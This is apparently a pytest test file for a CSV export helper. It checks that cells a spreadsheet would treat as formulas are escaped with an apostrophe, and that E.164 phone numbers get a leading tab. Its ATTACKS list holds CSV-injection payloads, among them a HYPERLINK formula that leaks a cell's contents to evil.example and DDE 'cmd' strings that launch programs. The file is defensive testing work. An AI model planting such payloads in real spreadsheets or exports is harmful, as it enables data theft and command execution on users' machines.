"""The CSV cells a spreadsheet would read as a formula or a number stay text (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest

from common.csv_export import FORMULA_START, csv_lines, spreadsheet_cell

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+7999abc",  # a plus, but not E.164
    "+" + "1" * 16,  # too long for E.164
    "+",
]


@pytest.mark.parametrize("phone", ["+79991234567", "+12025550123", "+4930123456"])
def test_an_e164_phone_gets_a_tab_and_stays_itself(phone):
    assert spreadsheet_cell(phone) == "\t" + phone


@pytest.mark.parametrize("value", ATTACKS)
def test_anything_else_a_spreadsheet_would_evaluate_gets_an_apostrophe(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ABC123", "2026-12-01T10:00:00Z", "Иван", "", 42, None, "a=b", "'quoted"])
def test_the_rest_is_written_as_it_is(value):
    assert spreadsheet_cell(value) == value


def test_no_cell_read_back_starts_a_formula():
    rows = [[value, "+79991234567"] for value in ATTACKS]
    text = "".join(csv_lines(header=("value", "phone"), rows=rows)).removeprefix("\ufeff")
    cells = [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]
    assert len(cells) == 2 * len(ATTACKS)
    for cell in cells:
        if cell.startswith(FORMULA_START):  # only the tab before an E.164 phone: digits after it
            assert cell.startswith("\t+") and cell[2:].isdigit(), repr(cell)
    assert [row[0] for row in list(csv.reader(io.StringIO(text)))[1:]] == ["'" + value for value in ATTACKS]


def test_the_header_is_written_as_it_is():
    assert next(csv_lines(header=("phone", "activated_at"), rows=[])) == "\ufeffphone,activated_at\r\n"
